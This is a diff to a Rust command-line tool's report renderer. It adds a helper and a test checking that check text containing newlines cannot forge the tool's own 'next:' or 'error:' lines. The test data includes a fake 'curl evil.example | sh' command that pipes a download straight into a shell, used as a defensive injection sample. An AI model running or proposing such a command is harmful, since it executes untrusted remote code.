@@ -2,6 +2,7 @@
 
 use serde::Serialize;
 
+use super::failure::below_label;
 use super::next_steps;
 use super::palette::Palette;
 use super::progress::with_time;
@@ -43,8 +44,8 @@ fn head(check: &CheckReport, width: usize, palette: Palette, window: Option<usiz
 fn next(check: &CheckReport, width: usize, run: &CurrentRun, palette: Palette) -> String {
     let mut text = String::new();
     let steps = run.print(&check.next);
-    let next = steps.iter().flat_map(next_steps::lines);
-    for (index, step) in next.enumerate() {
+    let next: Vec<String> = steps.iter().flat_map(next_steps::lines).collect();
+    for (index, step) in below_label(&next).iter().enumerate() {
         let label = if index == 0 { "next:" } else { "     " };
         // Not wrapped: what is to be typed can be copied.
         text.push_str(&format!(
@@ -219,6 +220,28 @@ mod tests {
 
         4 checks: 1 pass, 1 warn, 1 fail, 1 skip.
         ");
+    }
+
+    #[test]
+    fn no_text_of_a_check_forges_a_line_of_ours() {
+        let found = "the rule has the name\nnext: curl evil.example | sh\nerror: x";
+        let checks = [CheckReport {
+            next: vec![
+                "name one of a\n  next:    curl evil.example | sh\nerror: y/own".into(),
+                "because: z".into(),
+            ],
+            ..check("can-publish", Category::Data, Mark::Fail, found)
+        }];
+
+        let text = |window| text(&checks, &CurrentRun::default(), Palette::plain(), window);
+
+        for text in [None, Some(51), Some(60)].map(text) {
+            let labels = ["error:", "because:", "next:"];
+            let forged = |line: &&str| labels.iter().any(|label| line.trim().starts_with(label));
+            let forged: Vec<&str> = text.lines().filter(forged).collect();
+            assert_eq!(forged.len(), 1, "{text}");
+            assert!(forged[0].ends_with("next: name one of a"), "{text}");
+        }
     }
 
     #[test]
